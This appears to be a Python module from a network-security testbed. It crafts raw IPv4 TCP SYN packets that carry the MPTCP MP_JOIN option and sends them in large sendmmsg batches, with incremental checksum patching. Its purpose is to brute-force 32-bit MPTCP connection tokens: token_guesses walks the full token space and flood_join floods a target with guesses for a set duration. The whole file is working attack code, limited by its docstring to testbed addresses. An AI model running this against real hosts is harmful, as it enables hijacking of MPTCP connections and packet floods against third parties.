"""Batch raw-socket sender for crafted IPv4 packets (standard library only: it runs inside
attacker nodes with the orchestrator's interpreter).

Packets are built once into one buffer and sent with ``sendmmsg(2)`` (through ctypes) in
batches, so the per-packet cost is a few slots patched in place, not a scapy build and a
syscall. For MP_JOIN token guessing, ``JoinSynBatch`` holds ``n`` SYNs with the MP_JOIN
option; ``set_tokens`` writes the next guesses and fixes each TCP checksum incrementally.

    from testbed.runtime.rawsend import JoinSynBatch, RawSender, join_syn

    batch = JoinSynBatch("100.64.0.9", "203.0.113.2", 443, n=256)
    with RawSender() as tx:
        batch.set_tokens(range(first, first + 256))
        sent = tx.send_batch(batch)           # one sendmmsg call (or a few)
        tx.send([join_syn(...)], "203.0.113.2")  # any list of ready IPv4 packets

``flood_join(...)`` runs that loop for a duration and returns ``{sent, seconds, rate_pps}``.
Only send to testbed addresses from inside a testbed namespace (DESIGN.md §7).
"""

from __future__ import annotations

import ctypes
import ctypes.util
import ipaddress
import itertools
import os
import socket
import struct
import time
from collections.abc import Iterable, Iterator, Sequence
from typing import Any

IP_HDR = 20
TCPOPT_MPTCP = 30
MPTCP_SUB_JOIN = 1
SYN = 0x02
# IP header, TCP header (data offset 9: 36 bytes), options: MSS 1460, MP_JOIN SYN (12 bytes).
_IP = struct.Struct("!BBHHHBBH4s4s")
_TCP = struct.Struct("!HHIIBBHHH")
_OPTS = struct.Struct("!BBHBBBBII")
TCP_HDR = _TCP.size + _OPTS.size  # 20 + 16
PKT_LEN = IP_HDR + TCP_HDR
TOKEN_OFF = IP_HDR + _TCP.size + 8  # receiver's token inside the MP_JOIN option
CSUM_OFF = IP_HDR + 16
SPORT_OFF = IP_HDR
SEQ_OFF = IP_HDR + 4


def _sum16(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    return sum(struct.unpack(f"!{len(data) // 2}H", data))


def _fold(s: int) -> int:
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return s


def join_syn(src: str, dst: str, sport: int, dport: int, token: int, nonce: int, *,
             seq: int = 0, addr_id: int = 0, backup: bool = False,
             window: int = 64240) -> bytes:
    """One IPv4 TCP SYN carrying MSS and an MP_JOIN (SYN) option for ``token``."""
    s, d = ipaddress.IPv4Address(src).packed, ipaddress.IPv4Address(dst).packed
    ip = _IP.pack(0x45, 0, PKT_LEN, 0, 0x4000, 64, socket.IPPROTO_TCP, 0, s, d)
    opts = _OPTS.pack(2, 4, 1460, TCPOPT_MPTCP, 12, (MPTCP_SUB_JOIN << 4) | int(backup),
                      addr_id, token & 0xFFFFFFFF, nonce & 0xFFFFFFFF)
    tcp0 = _TCP.pack(sport, dport, seq & 0xFFFFFFFF, 0, (TCP_HDR // 4) << 4, SYN, window, 0, 0)
    pseudo = s + d + struct.pack("!BBH", 0, socket.IPPROTO_TCP, TCP_HDR)
    csum = (~_fold(_sum16(pseudo + tcp0 + opts))) & 0xFFFF
    tcp = tcp0[:16] + struct.pack("!H", csum) + tcp0[18:]
    return ip + tcp + opts


# -- sendmmsg through ctypes ---------------------------------------------------------------
class _Iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


class _Msghdr(ctypes.Structure):
    _fields_ = [("name", ctypes.c_void_p), ("namelen", ctypes.c_uint32),
                ("iov", ctypes.POINTER(_Iovec)), ("iovlen", ctypes.c_size_t),
                ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t),
                ("flags", ctypes.c_int)]


class _Mmsghdr(ctypes.Structure):
    _fields_ = [("hdr", _Msghdr), ("len", ctypes.c_uint)]


class _SockaddrIn(ctypes.Structure):
    _fields_ = [("family", ctypes.c_ushort), ("port", ctypes.c_uint16),
                ("addr", ctypes.c_uint8 * 4), ("zero", ctypes.c_uint8 * 8)]


_libc: Any = None


def _sendmmsg() -> Any:
    global _libc
    if _libc is None:
        _libc = ctypes.CDLL(ctypes.util.find_library("c") or "libc.so.6", use_errno=True)
        _libc.sendmmsg.argtypes = [ctypes.c_int, ctypes.POINTER(_Mmsghdr), ctypes.c_uint,
                                   ctypes.c_int]
        _libc.sendmmsg.restype = ctypes.c_int
    return _libc.sendmmsg


class PacketBuffer:
    """``n`` packets of ``size`` bytes in one ctypes buffer, with the mmsghdr array that
    points at them (built once; patch packets in place through ``view``)."""

    def __init__(self, packets: Sequence[bytes], dst: str) -> None:
        if not packets:
            raise ValueError("no packets")
        self.n = len(packets)
        self.size = max(len(p) for p in packets)
        self.buf = ctypes.create_string_buffer(self.n * self.size)
        self.view = memoryview(self.buf).cast("B")
        self.addr = _SockaddrIn(socket.AF_INET, 0,
                                (ctypes.c_uint8 * 4)(*ipaddress.IPv4Address(dst).packed))
        self.iov = (_Iovec * self.n)()
        self.msgs = (_Mmsghdr * self.n)()
        base = ctypes.addressof(self.buf)
        for i, pkt in enumerate(packets):
            off = i * self.size
            self.view[off:off + len(pkt)] = pkt
            self.iov[i].base = base + off
            self.iov[i].len = len(pkt)
            hdr = self.msgs[i].hdr
            hdr.name = ctypes.addressof(self.addr)
            hdr.namelen = ctypes.sizeof(self.addr)
            hdr.iov = ctypes.pointer(self.iov[i])
            hdr.iovlen = 1


class JoinSynBatch(PacketBuffer):
    """``n`` MP_JOIN SYNs from ``src`` to ``dst:dport`` (source ports ``sport_base + i``);
    ``set_tokens`` writes the next ``n`` token guesses and their checksums in place."""

    def __init__(self, src: str, dst: str, dport: int, n: int = 256, *,
                 sport_base: int = 20000, nonce: int = 0x5EED5EED, addr_id: int = 0,
                 backup: bool = False) -> None:
        if not 0 < n <= 1024 or sport_base + n > 65536:
            raise ValueError("n must be 1..1024 and sport_base + n <= 65536")
        pkts = [join_syn(src, dst, sport_base + i, dport, 0, nonce, seq=0x1000 * (i + 1),
                         addr_id=addr_id, backup=backup) for i in range(n)]
        super().__init__(pkts, dst)
        # The one's-complement sum of each packet's TCP segment + pseudo header with
        # token 0 and checksum 0: adding a token's two 16-bit halves gives the new sum.
        self._base = [_fold((~struct.unpack_from("!H", p, CSUM_OFF)[0]) & 0xFFFF)
                      for p in pkts]
        self.tokens: list[int] = [0] * n
        # The same sum for source port 0, sequence 0, token 0 (all else is equal across
        # the batch): ``set_guesses`` patches all three.
        zero = join_syn(src, dst, 0, dport, 0, nonce, seq=0, addr_id=addr_id, backup=backup)
        self._zero = _fold((~struct.unpack_from("!H", zero, CSUM_OFF)[0]) & 0xFFFF)

    def set_guesses(self, sports: Sequence[int], seqs: Sequence[int],
                    tokens: Sequence[int]) -> int:
        """Write up to ``n`` (source port, sequence number, token) triples into the packets,
        checksums fixed incrementally; return how many were written. Distinct (port,
        sequence) pairs let each answer (a reset acknowledges sequence + 1) be matched to
        its guess."""
        view, size, zero = self.view, self.size, self._zero
        pack = struct.pack_into
        count = min(self.n, len(sports), len(seqs), len(tokens))
        for i in range(count):
            sp, sq, tok = sports[i] & 0xFFFF, seqs[i] & 0xFFFFFFFF, tokens[i] & 0xFFFFFFFF
            s = zero + sp + (sq >> 16) + (sq & 0xFFFF) + (tok >> 16) + (tok & 0xFFFF)
            s = (s & 0xFFFF) + (s >> 16)
            s = (s & 0xFFFF) + (s >> 16)
            off = i * size
            pack("!H", view, off + SPORT_OFF, sp)
            pack("!I", view, off + SEQ_OFF, sq)
            pack("!I", view, off + TOKEN_OFF, tok)
            pack("!H", view, off + CSUM_OFF, (~s) & 0xFFFF)
            self.tokens[i] = tok
        return count

    def set_tokens(self, tokens: Iterable[int]) -> int:
        """Write up to ``n`` tokens into the packets; return how many were written (the
        count to send)."""
        view, size, base = self.view, self.size, self._base
        pack = struct.pack_into
        count = 0
        for tok in itertools.islice(tokens, self.n):
            tok &= 0xFFFFFFFF
            off = count * size
            s = base[count] + (tok >> 16) + (tok & 0xFFFF)
            s = (s & 0xFFFF) + (s >> 16)
            s = (s & 0xFFFF) + (s >> 16)
            pack("!I", view, off + TOKEN_OFF, tok)
            pack("!H", view, off + CSUM_OFF, (~s) & 0xFFFF)
            self.tokens[count] = tok
            count += 1
        return count


class RawSender:
    """An IPv4 raw socket (IP_HDRINCL) in the current network namespace."""

    def __init__(self) -> None:
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
        self.sent = 0

    def __enter__(self) -> RawSender:
        return self

    def __exit__(self, *exc: object) -> None:
        self.close()

    def close(self) -> None:
        self.sock.close()

    def send_batch(self, batch: PacketBuffer, count: int | None = None,
                   start: int = 0) -> int:
        """Send packets ``start`` .. ``count`` - 1 (default: all) of ``batch`` with
        sendmmsg; return how many the kernel took. ENOBUFS/EAGAIN end the call early (the
        caller may send the rest from ``start`` + the count returned)."""
        count = batch.n if count is None else min(count, batch.n)
        fn = _sendmmsg()
        fd = self.sock.fileno()
        done = start
        while done < count:
            r = fn(fd, ctypes.byref(batch.msgs[done]), count - done, 0)
            if r < 0:
                err = ctypes.get_errno()
                if err in (105, 11):  # ENOBUFS, EAGAIN: the queue is full, let it drain
                    break
                raise OSError(err, os.strerror(err))
            done += r
        self.sent += done - start
        return done - start

    def send(self, packets: Sequence[bytes], dst: str) -> int:
        """Send ready packets one ``sendto`` each (the simple path)."""
        n = 0
        for pkt in packets:
            self.sock.sendto(pkt, (dst, 0))
            n += 1
        self.sent += n
        return n


def token_guesses(start: int = 0, step: int = 0x9E3779B1) -> Iterator[int]:
    """An endless sequence of 32-bit token guesses that visits every value once per 2^32
    (an odd step walks the whole ring)."""
    tok = start & 0xFFFFFFFF
    while True:
        yield tok
        tok = (tok + step) & 0xFFFFFFFF


def flood_join(src: str, dst: str, dport: int, *, duration_s: float, batch: int = 256,
               start_token: int = 0) -> dict[str, Any]:
    """Send MP_JOIN SYNs with successive token guesses for ``duration_s``; return what was
    sent and the rate achieved by this one thread."""
    syns = JoinSynBatch(src, dst, dport, n=batch)
    guesses = token_guesses(start_token)
    sent = 0
    with RawSender() as tx:
        t0 = time.monotonic()
        deadline = t0 + duration_s
        while time.monotonic() < deadline:
            k = syns.set_tokens(next(guesses) for _ in range(batch))
            sent += tx.send_batch(syns, k)
        elapsed = time.monotonic() - t0
    return {"sent": sent, "seconds": round(elapsed, 4), "rate_pps": round(sent / elapsed, 1)}
